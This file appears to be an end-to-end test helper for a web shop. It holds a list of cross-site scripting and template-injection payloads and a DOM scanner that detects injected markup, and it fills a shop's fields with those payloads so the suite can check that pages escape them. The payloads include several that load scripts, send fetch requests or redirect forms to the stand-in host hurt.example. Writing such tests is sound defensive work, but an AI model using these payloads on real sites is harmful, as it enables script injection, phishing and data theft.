"""Words that would run, load or change something if a page took them for markup."""

from e2e.scene import Words

_CALL = "alert(1)"
_FETCH = "fetch('https://hurt.example/')"
PAYLOADS = (
    f"<script>{_CALL}</script>",
    f'"><script>{_CALL}</script>',
    f"'><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<script/x>{_CALL}</script>",
    "<script src=//hurt.example/x.js></script>",
    f"<<script>{_CALL};//<</script>",
    f"<img src=x onerror={_CALL}>",
    f"<img/src/onerror={_CALL}>",
    f'<img src="x" onerror="{_FETCH}">',
    "<img src=https://hurt.example/pixel>",
    f'"><img src=x onerror={_CALL}>',
    f"' onmouseover='{_CALL}' x='",
    f'" autofocus onfocus="{_CALL}" x="',
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f'<math><mi//xlink:href="data:x,<script>{_CALL}</script>">',
    f"<body onload={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}>",
    f"<video><source onerror={_CALL}>",
    f"<audio src=x onerror={_CALL}>",
    f"<iframe src=javascript:{_CALL}>",
    f'<iframe srcdoc="<script>{_CALL}</script>">',
    f"<object data=javascript:{_CALL}>",
    f"<embed src=javascript:{_CALL}>",
    f"<a href=javascript:{_CALL}>here</a>",
    f"javascript:{_CALL}//",
    "<form action=https://hurt.example/><button>Sign in</button></form>",
    "<base href=https://hurt.example/>",
    '<meta http-equiv=refresh content="0;url=https://hurt.example/">',
    "<link rel=stylesheet href=https://hurt.example/x.css>",
    f'<div hx-get="https://hurt.example/" hx-trigger=load hx-on:load="{_CALL}">',
    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>\u2028\u202e&lt;b&gt;",
)
MARKUP = """() => [...document.querySelectorAll('*')].flatMap((one) => {
  const tag = one.localName, found = [];
  if (['img', 'iframe', 'object', 'embed', 'base', 'math', 'video', 'audio', 'source', 'animate',
       'style'].includes(tag) || (tag === 'script' && !one.src)) found.push(tag);
  for (const {name, value} of one.attributes) {
    if (name.startsWith('on') || name.startsWith('hx-on') || name === 'style') found.push(name);
    if (/^\\s*javascript:/i.test(value) && ['href', 'src', 'action', 'data'].includes(name))
      found.push(value);
    if (value.includes('hurt.example') && ['hx-get', 'src'].includes(name)) found.push(value);
  }
  return found;
})"""


def hostile(number: int) -> Words:
    """Return a shop's words: each another payload, and all of them in the metadata."""
    payloads = [PAYLOADS[(number * 5 + place) % len(PAYLOADS)] for place in range(5)]
    address = "".join(payloads[3].split()).replace("@", "")
    return Words(
        description=payloads[0],
        reference=payloads[1],
        customer=payloads[2],
        email=f"{address}@hurt.example",
        metadata={payload[:40]: payload for payload in PAYLOADS},
        endpoint=payloads[4],
        path="/'onmouseover=alert(1)//?x=javascript:alert(1)",  # No sharper signs are let in.
        answer=payloads[0],
    )
